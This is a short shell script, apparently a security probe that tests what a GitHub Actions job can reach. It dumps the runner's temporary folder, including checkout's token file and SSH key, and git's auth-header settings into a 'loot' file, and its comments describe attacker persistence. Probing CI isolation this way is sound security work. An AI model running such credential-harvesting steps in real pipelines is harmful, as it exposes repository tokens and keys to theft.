# Reads what earlier steps of the job left in the runner's temporary
# folder: actions/checkout v6's token file (git-credentials-<uuid>.config,
# which the repository's .git/config includes for its worktrees too) and
# its ssh key; then asks git, from its worktree, for the header.
set +e # an attacker keeps going when a step is refused
{
  echo "runner temp: $RUNNER_TEMP"
  for f in "$RUNNER_TEMP"/* "$RUNNER_TEMP"/*/*; do
    case "$f" in */planex-*) continue ;; esac
    [ -f "$f" ] && { echo "== $f"; cat "$f"; }
  done
  git config --show-origin --get-regexp 'extraheader|sshcommand'
} > a/loot.txt 2>&1
mkdir -p a && echo "T1 was here" > a/t1.txt
